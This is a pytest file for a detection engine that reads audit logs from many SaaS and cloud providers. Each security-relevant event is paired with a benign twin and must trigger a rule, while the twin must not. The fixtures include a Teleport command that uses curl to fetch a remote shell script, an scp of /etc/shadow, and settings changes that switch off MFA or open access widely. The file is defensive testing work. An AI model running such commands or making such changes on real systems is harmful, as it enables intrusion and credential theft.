"""Rules for audit logs: the action is found; its failed, reversed, hardening or ordinary twin stays below medium."""

from __future__ import annotations

import pytest

from svc.assistant.findings import Severity
from svc.assistant.sigma.engine import RuleEngine
from svc.assistant.sigma.event import Event
from svc.assistant.sigma.tables import OURS, load_tables

RULES = load_tables()[OURS].rules
OKTA, DUO_ADMIN, GOOGLE = ("okta", "okta"), ("duo", "administrator"), ("gcp", "google_workspace.admin")
GITHUB, SLACK, ASANA, NOTION = ("github", "audit"), ("slack", "audit"), ("asana", "audit"), ("notion", "audit")
BOX, DROPBOX, ZOOM, ZENDESK = ("box", "events"), ("dropbox", "team_log"), ("zoom", "operation"), ("zendesk", "audit")
TELEPORT, TAILSCALE, ONELOGIN = ("teleport", "audit"), ("tailscale", "audit"), ("onelogin", "onelogin.events")
ATLAS, AWS, SUBLIME, NETSKOPE = ("mongodb", "atlas"), ("aws", "cloudtrail"), ("sublime", "audit"), ("netskope", "audit")
ENTRA, DATADOG, GCP = ("azure", "auditlogs"), ("datadog", "audit"), ("gcp", "gcp.audit")
AGENTS, OSQUERY = ("sentinelone", "activities"), ("", "osquery")
ANTHROPIC, OPENAI, KUBERNETES = ("anthropic", "activity"), ("openai", "audit"), ("kubernetes", "audit")
SNOWFLAKE, DATABRICKS, FALCON = ("snowflake", "query_history"), ("databricks", "audit"), ("crowdstrike", "falcon")
SALESFORCE, ZSCALER = ("salesforce", "setup_audit_trail"), ("zscaler", "admin_audit")
AUTH0, AZURE = ("auth0", "tenant"), ("azure", "activitylogs")
SSE = "requestParameters.ServerSideEncryptionConfiguration.Rule.ApplyServerSideEncryptionByDefault"
IAM_CALL = {"eventSource": "iam.amazonaws.com", "userIdentity.type": "IAMUser", "sourceIPAddress": "192.0.2.9"}
Source = tuple[str, str]
Fields = dict[str, str]


def titles(source: Source, fields: Fields) -> list[str]:
    product, service = source
    event = Event(number=1, offset=None, time="", product=product, service=service, category="", host="",
                  event_id=None, fields=fields, excerpt="")  # fmt: skip
    hits = RuleEngine(RULES).feed([event])
    return [hit.rule.title for hit in hits if hit.rule.severity not in (Severity.LOW, Severity.INFO)]


CASES: list[tuple[Source, Fields, Fields]] = [
    (OKTA, {"eventType": "user.account.lock"}, {"eventType": "user.account.unlock"}),
    (OKTA, {"eventType": "application.lifecycle.update", "outcome.reason": "Pushing user passwords"},
     {"eventType": "application.lifecycle.update", "outcome.result": "SUCCESS"}),
    (OKTA, {"eventType": "app.oauth2.credentials.lifecycle.create"}, {"eventType": "app.oauth2.signon"}),
    (OKTA, {"eventType": "user.session.start", "outcome.result": "SUCCESS",
      "debugContext.debugData.behaviors": "{New Device=POSITIVE, Velocity=POSITIVE}"},
     {"eventType": "user.session.start", "outcome.result": "SUCCESS",
      "debugContext.debugData.behaviors": "{New Device=POSITIVE, Velocity=NEGATIVE}"}),
    (GOOGLE, {"eventName": "TOGGLE_CAA_ENABLEMENT", "parameters.NEW_VALUE": "DISABLED"},
     {"eventName": "TOGGLE_CAA_ENABLEMENT", "parameters.NEW_VALUE": "ENABLED"}),
    (GOOGLE, {"eventName": "rule_match", "parameters.severity": "HIGH"},
     {"eventName": "rule_match", "parameters.severity": "LOW"}),
    (GOOGLE, {"eventName": "TRANSFER_DOCUMENT_OWNERSHIP", "parameters.NEW_VALUE": "eve@example.net",
      "UserDomain": "@example.org"},
     {"eventName": "TRANSFER_DOCUMENT_OWNERSHIP", "parameters.NEW_VALUE": "bob@example.org",
      "UserDomain": "@example.org"}),
    (GITHUB, {"action": "repo.create", "visibility": "public"}, {"action": "repo.create", "visibility": "private"}),
    (GITHUB, {"action": "secret_scanning_alert.create"}, {"action": "secret_scanning_alert.validate"}),
    (GITHUB, {"action": "organization_moderators.add_user"}, {"action": "organization_moderators.remove_user"}),
    (GITHUB, {"action": "repo.add_member", "permission": "write"}, {"action": "repo.add_member", "permission": "read"}),
    (GITHUB, {"action": "protected_branch.update_admin_enforced", "admin_enforced": "false"},
     {"action": "protected_branch.update_admin_enforced", "admin_enforced": "true"}),
    (SLACK, {"action": "service_owner_transferred"}, {"action": "user_login"}),
    (ASANA, {"event_type": "workspace_password_requirements_changed", "details.new_value": "simple"},
     {"event_type": "workspace_password_requirements_changed", "details.new_value": "strong"}),
    (ASANA, {"event_type": "team_privacy_settings_changed", "details.new_value": "public"},
     {"event_type": "team_privacy_settings_changed", "details.new_value": "private"}),
    (ASANA, {"event_type": "workspace_guest_invite_permissions_changed", "details.new_value": "anyone"},
     {"event_type": "workspace_guest_invite_permissions_changed", "details.new_value": "admins_only"}),
    (DUO_ADMIN, {"action": "admin_single_sign_on_update", "description": '{"enforcement_status": "disabled"}'},
     {"action": "admin_single_sign_on_update", "description": '{"enforcement_status": "required"}'}),
    (DUO_ADMIN, {"action": "update_admin_factor_restrictions"}, {"action": "admin_login"}),
    (ATLAS, {"eventTypeName": "NETWORK_PERMISSION_ENTRY_ADDED", "whitelistEntry": "0.0.0.0/0"},
     {"eventTypeName": "PEER_CREATED"}),
    (BOX, {"event_type": "ITEM_SHARED_UPDATE", "source.shared_link.access": "open"},
     {"event_type": "ITEM_SHARED_UPDATE", "source.shared_link.access": "collaborators"}),
    (TELEPORT, {"event": "lock.deleted"}, {"event": "mfa.add"}),
    (TELEPORT, {"event": "session.command", "program": "curl", "argv": "-s\nhttp://192.0.2.9/a.sh"},
     {"event": "session.command", "program": "curl", "argv": "--version"}),
    (ENTRA, {"activityDisplayName": "Reset password (by admin)",
             "targetResources.userPrincipalName": "adm.eve@example.org"},
     {"activityDisplayName": "Reset password (by admin)", "targetResources.userPrincipalName": "adam@example.org"}),
    (DATADOG, {"asset.type": "archive", "action": "deleted"}, {"asset.type": "archive", "action": "modified"}),
    (DATADOG, {"asset.type": "api_key", "action": "created"},
     {"asset.type": "api_key", "action": "created", "evt.actor.type": "API_KEY", "auth_method": "API_KEY"}),
    (DATADOG, {"asset.type": "identity_provider", "action": "modified"},
     {"asset.type": "dashboard", "action": "modified"}),
    (AWS, {"eventName": "UpdateDetector", "requestParameters.enable": "false"},
     {"eventName": "UpdateDetector", "requestParameters.enable": "true"}),
    (AWS, {"eventName": "UpdateAssumeRolePolicy", "requestParameters.policyDocument": '{"Principal":{"AWS":"*"}}'},
     {"eventName": "UpdateAssumeRolePolicy", "requestParameters.policyDocument": '{"Principal":{"Service":"a"}}'}),
    (GCP, {"protoPayload.methodName": "v1.compute.firewalls.insert",
           "protoPayload.request.sourceRanges": "10.0.0.0/8\n0.0.0.0/0"},
     {"protoPayload.methodName": "v1.compute.firewalls.insert",
      "protoPayload.request.sourceRanges": "10.0.0.0/8\n35.191.0.0/16"}),
    (BOX, {"event_type": "ACCESS_GRANTED"}, {"event_type": "ACCESS_REVOKED"}),
    (BOX, {"event_type": "DEVICE_TRUST_CHECK_FAILED"}, {"event_type": "ADD_LOGIN_ACTIVITY_DEVICE"}),
    (BOX, {"event_type": "CONTENT_WORKFLOW_UPLOAD_POLICY_VIOLATION"}, {"event_type": "UPLOAD"}),
    (DROPBOX, {"event_type.tag": "sign_in_as_session_start"}, {"event_type.tag": "sign_in_as_session_end"}),
    (NOTION, {"type": "teamspace.permissions.member_added", "details.role": "owner"},
     {"type": "teamspace.permissions.member_added", "details.role": "member"}),
    (ZOOM, {"operation_detail": "Automatically sign users out after a period: from On to Off", "action": "Update"},
     {"operation_detail": "Automatically sign users out after a period: from Off to On", "action": "Update"}),
    (ZENDESK, {"source_label": "Security: Two-factor", "change_description": "Changed from Enabled to Disabled"},
     {"source_label": "Security: Two-factor", "change_description": "Changed from Disabled to Enabled"}),
    (TELEPORT, {"event": "session.command", "program": "arp-scan"}, {"event": "session.command", "program": "ls"}),
    (TAILSCALE, {"action": "DISABLE", "target.type": "TAILNET", "target.property": "MAGIC_DNS"},
     {"action": "ENABLE", "target.type": "TAILNET", "target.property": "MAGIC_DNS"}),
    (ONELOGIN, {"event_type_id": "3", "actor_user_id": "8", "user_id": "7"},
     {"event_type_id": "3", "actor_user_id": "7", "user_id": "7"}),
    (AWS, {"eventName": "AssumeRoot", "userIdentity.type": "IAMUser"},
     {"eventName": "AssumeRoot", "userIdentity.type": "IAMUser", "errorCode": "AccessDenied"}),
    (SUBLIME, {"type": "message_source.delete"}, {"type": "message_source.create"}),
    (SUBLIME, {"type": "api_key.create"}, {"type": "api_key.delete"}),
    (NETSKOPE, {"audit_log_event": "Admin logged out because of successive login failures"},
     {"audit_log_event": "Admin logged out"}),
    (AGENTS, {"primaryDescription": "Malicious threat detected: a.exe on WS-17"},
     {"primaryDescription": "Full disk scan completed: no threat found on WS-17"}),
    (OSQUERY, {"name": "pack_it_updates", "action": "added", "columns.domain": "com.apple.SoftwareUpdate",
      "columns.key": "AutomaticCheckEnabled", "columns.value": "false"},
     {"name": "pack_it_updates", "action": "added", "columns.domain": "com.apple.SoftwareUpdate",
      "columns.key": "AutomaticCheckEnabled", "columns.value": "true"}),
    (OKTA, {"eventType": "application.policy.sign_on.update"}, {"eventType": "policy.evaluate_sign_on"}),
    (OKTA, {"eventType": "iam.role.update"}, {"eventType": "iam.role.update", "outcome.result": "FAILURE"}),
    (OKTA, {"eventType": "user.account.update_primary_email", "actor.id": "1", "target.id": "2"},
     {"eventType": "user.account.update_primary_email", "actor.id": "1", "target.id": "1"}),
    (OKTA, {"eventType": "event_hook.created"}, {"eventType": "event_hook.verified"}),
    (GITHUB, {"action": "repo.access"}, {"action": "repo.access", "visibility": "private"}),
    (GITHUB, {"action": "workflows.bypass_protection_rules"}, {"action": "workflows.approve_workflow_job"}),
    (GITHUB, {"action": "org.recovery_code_failed"}, {"action": "org.sso_response"}),
    (GOOGLE, {"eventName": "GENERATE_2SV_SCRATCH_CODES_FOR_ALL_USERS"}, {"eventName": "CREATE_USER"}),
    (GOOGLE, {"eventName": "REQUEST_MAILBOX_DUMP"}, {"eventName": "EMAIL_LOG_SEARCH"}),
    (GOOGLE, {"eventName": "PASSWORD_POLICY_CHANGED"}, {"eventName": "CHANGE_LAST_NAME"}),
    (GOOGLE, {"eventName": "MALWARE_TRANSFER", "applicationName": "chrome"},
     {"eventName": "MALWARE_TRANSFER", "applicationName": "chrome", "parameters.EVENT_RESULT": "EVENT_RESULT_BLOCKED"}),
    (GOOGLE, {"eventName": "DEVICE_COMPROMISED_EVENT", "parameters.DEVICE_COMPROMISED_STATE": "COMPROMISED"},
     {"eventName": "DEVICE_COMPROMISED_EVENT", "parameters.DEVICE_COMPROMISED_STATE": "NOT_COMPROMISED"}),
    (GOOGLE, {"eventName": "risky_sensitive_action_allowed"}, {"eventName": "risky_sensitive_action_blocked"}),
    (GCP, {"protoPayload.serviceName": "securitycenter.googleapis.com", "protoPayload.methodName": "a.DisableModule"},
     {"protoPayload.serviceName": "securitycenter.googleapis.com", "protoPayload.methodName": "a.ListFindings"}),
    (GCP, {"protoPayload.methodName": "SetIamPolicy",
           "protoPayload.serviceData.policyDelta.bindingDeltas.role": "roles/editor"},
     {"protoPayload.methodName": "SetIamPolicy",
      "protoPayload.serviceData.policyDelta.bindingDeltas.role": "roles/monitoring.viewer"}),
    (DROPBOX, {"event_type.tag": "team_folder_permanently_delete"}, {"event_type.tag": "file_delete"}),
    (DROPBOX, {"event_type.tag": "shared_link_settings_remove_password"},
     {"event_type.tag": "shared_link_settings_add_password"}),
    (DROPBOX, {"event_type.tag": "guest_admin_change_status", "details.new_value.tag": "enabled"},
     {"event_type.tag": "guest_admin_change_status", "details.new_value.tag": "disabled"}),
    (BOX, {"event_type": "MASTER_INVITE_ACCEPT"}, {"event_type": "MASTER_INVITE_REJECT"}),
    (BOX, {"event_type": "EXTERNAL_COLLAB_SECURITY_SETTINGS"}, {"event_type": "COLLABORATION_REMOVE"}),
    (DUO_ADMIN, {"action": "integration_create", "description": '{"type": "Admin API"}'},
     {"action": "integration_create", "description": '{"type": "Web SDK"}'}),
    (DUO_ADMIN, {"action": "policy_update", "description": '{"new_user_policy": "Allow access without 2FA"}'},
     {"action": "policy_update", "description": '{"new_user_policy": "Require enrollment"}'}),
    (AWS, {"eventSource": "inspector2.amazonaws.com", "eventName": "Disable"},
     {"eventSource": "inspector2.amazonaws.com", "eventName": "Enable"}),
    (AWS, {"eventSource": "acm.amazonaws.com", "eventName": "ExportCertificate"},
     {"eventSource": "acm.amazonaws.com", "eventName": "DescribeCertificate"}),
    (AWS, {"eventSource": "account.amazonaws.com", "eventName": "EnableRegion"},
     {"eventSource": "account.amazonaws.com", "eventName": "DisableRegion"}),
    (AWS, {"eventSource": "datasync.amazonaws.com", "eventName": "CreateTask"},
     {"eventSource": "datasync.amazonaws.com", "eventName": "DescribeTask"}),
    (AWS, {"eventName": "DeleteMountTarget"}, {"eventName": "DescribeMountTargets"}),
    (AWS, {"eventName": "ModifyInstanceMetadataOptions",
           "requestParameters.ModifyInstanceMetadataOptionsRequest.HttpTokens": "optional"},
     {"eventName": "ModifyInstanceMetadataOptions",
      "requestParameters.ModifyInstanceMetadataOptionsRequest.HttpTokens": "required"}),
    (AWS, {"eventName": "PutBucketEncryption", f"{SSE}.SSEAlgorithm": "aws:kms"},
     {"eventName": "PutBucketEncryption", f"{SSE}.SSEAlgorithm": "AES256"}),
    (AWS, {"eventName": "PutBucketPolicy"}, {"eventName": "DeleteBucketEncryption"}),
    (AWS, {"errorCode": "AccessDenied", "eventName": "GetRole", **IAM_CALL},
     {"errorCode": "AccessDenied", "eventName": "GetRole", "userIdentity.invokedBy": "signin.amazonaws.com",
      "userAgent": "aws-internal/3 aws-sdk-java/1.12", **IAM_CALL}),
    (ANTHROPIC, {"type": "org_user_invite_sent", "role": "admin"}, {"type": "org_user_invite_sent", "role": "user"}),
    (TELEPORT, {"event": "access_request.review", "reviewer": "eve", "user": "eve", "state": "APPROVED"},
     {"event": "access_request.review", "reviewer": "ann", "user": "eve", "state": "APPROVED"}),
    (TELEPORT, {"event": "scp", "path": "/etc/shadow"}, {"event": "scp", "path": "/var/www/index.html"}),
    (KUBERNETES, {"verb": "create", "objectRef.resource": "cronjobs", "objectRef.namespace": "kube-system",
                  "user.username": "eve@example.org"},
     {"verb": "create", "objectRef.resource": "cronjobs", "objectRef.namespace": "kube-system",
      "user.username": "system:serviceaccount:kube-system:cronjob-controller"}),
    (SNOWFLAKE, {"QUERY_TEXT": "ALTER SHARE LEDGER ADD ACCOUNTS = XY1"},
     {"QUERY_TEXT": "ALTER SHARE LEDGER REMOVE ACCOUNTS = XY1"}),
    (DATABRICKS, {"actionName": "workspaceConfEdit", "requestParams.workspaceConfKeys": "enableTokensConfig",
                  "requestParams.workspaceConfValues": "true"},
     {"actionName": "workspaceConfEdit", "requestParams.workspaceConfKeys": "enableTokensConfig",
      "requestParams.workspaceConfValues": "false"}),
    (DATABRICKS, {"serviceName": "accounts", "actionName": "delete", "requestParams.endpoint": "/users"},
     {"serviceName": "accounts", "actionName": "delete", "requestParams.endpoint": "/servicePrincipals"}),
    (FALCON, {"OperationName": "update_policy", "AuditKeyValues.enabled": "false"},
     {"OperationName": "update_policy", "AuditKeyValues.enabled": "true"}),
    (OSQUERY, {"name": "pack_disk_encryption", "action": "added", "columns.encrypted": "0"},
     {"name": "pack_disk_encryption", "action": "added", "columns.encrypted": "1"}),
    (OPENAI, {"type": "certificate.created"}, {"type": "certificates.activated"}),
    (SALESFORCE, {"Action": 'Enabled permission "View All Data" in permission set Sales'},
     {"Action": 'Disabled permission "View All Data" in permission set Sales'}),
    (ZSCALER, {"action": "DELETE", "category": "NSS"}, {"action": "CREATE", "category": "NSS"}),
    (ZOOM, {"category_type": "Recording", "action": "Download"}, {"category_type": "Recording", "action": "Delete"}),
    (("acme", "audit"), {"Action": "edited", "new_session_timeout": "720", "previous_session_timeout": "30"},
     {"Action": "edited", "new_session_timeout": "30", "previous_session_timeout": "720"}),
    (AUTH0, {"data.description": "Set the Multi-factor Authentication policies"},
     {"data.description": "Set the Multi-factor Authentication policies",
      "data.details.request.body": "all-applications"}),
    (DUO_ADMIN, {"action": "update_admin_factor_restrictions", "description": '{"allowed_factors": "Text message"}'},
     {"action": "update_admin_factor_restrictions", "description": '{"allowed_factors": "Duo push, WebAuthn"}'}),
    (GITHUB, {"action": "org.oauth_app_access_approved"}, {"action": "org.oauth_app_access_requested"}),
    (AZURE, {"operationName": "MICROSOFT.SECURITY/PRICINGS/WRITE",
             "properties.requestbody.properties.pricingTier": "Free"},
     {"operationName": "MICROSOFT.SECURITY/PRICINGS/WRITE",
      "properties.requestbody.properties.pricingTier": "Standard"}),
]  # fmt: skip


@pytest.mark.parametrize(("source", "action", "twin"), CASES)
def test_an_action_is_found_and_its_twin_stays_below_medium(source: Source, action: Fields, twin: Fields):
    assert titles(source, action) != []
    assert titles(source, twin) == []
